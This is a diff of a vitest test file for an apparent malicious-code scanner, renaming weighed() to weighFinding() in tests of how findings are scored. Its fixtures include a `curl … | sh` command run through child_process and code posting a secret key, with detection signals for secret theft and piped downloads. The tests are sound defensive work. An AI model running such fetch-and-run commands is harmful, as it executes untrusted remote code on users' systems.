@@ -1,5 +1,5 @@
 import { expect, test } from "vitest";
-import { weighed } from "../../src/find/judge/weighed.ts";
+import { weighFinding } from "../../src/find/judge/weigh-finding.ts";
 import { powersOf } from "../../src/scan/program/powers.ts";
 import { scanDescription } from "../../src/scan/scan-description.ts";
 import { scanTexts } from "../../src/scan/scan-text.ts";
@@ -162,22 +162,25 @@ test.each([
   ["a comment in a text", "const open = '/*';\n/**/ ", "danger"],
   ["a comment of one line", "// ", "notice"],
   ["a comment of several lines", "/*\n* ", "notice"],
-])("weighed() lets only a line that is a comment as a whole count as one: %s", (_what, before, severity) => {
-  const text = `${CLIENT}\n${KEY}\n${before}api.post("/c", { key });${before.includes("/*\n") ? "\n*/" : ""}`;
-  const line = text.split("\n").findIndex((each) => each.includes("api.post")) + 1;
-  const finding = {
-    signal: "program-sends-secrets",
-    severity: "danger",
-    message: "",
-    excerpt: "",
-    file: "index.js",
-    line,
-  } as const;
-  expect(weighed(finding, { programs: [program(text)] }).severity).toBe(severity);
-});
+])(
+  "weighFinding() lets only a line that is a comment as a whole count as one: %s",
+  (_what, before, severity) => {
+    const text = `${CLIENT}\n${KEY}\n${before}api.post("/c", { key });${before.includes("/*\n") ? "\n*/" : ""}`;
+    const line = text.split("\n").findIndex((each) => each.includes("api.post")) + 1;
+    const finding = {
+      signal: "program-sends-secrets",
+      severity: "danger",
+      message: "",
+      excerpt: "",
+      file: "index.js",
+      line,
+    } as const;
+    expect(weighFinding(finding, { programs: [program(text)] }).severity).toBe(severity);
+  },
+);
 
-test("weighed() leaves a download that a shell runs as it is, whatever the README shows", () => {
+test("weighFinding() leaves a download that a shell runs as it is, whatever the README shows", () => {
   const text = `const cp = require("child_process");\nconst run = cp.execSync\nrun \`curl https://quiet-lane.io/x | sh\``;
   const found = scanTexts([program(text)]).find(({ signal }) => signal === "piped-download");
-  expect(found && weighed(found, { programs: [program(text)] }).severity).toBe("warning");
+  expect(found && weighFinding(found, { programs: [program(text)] }).severity).toBe("warning");
 });
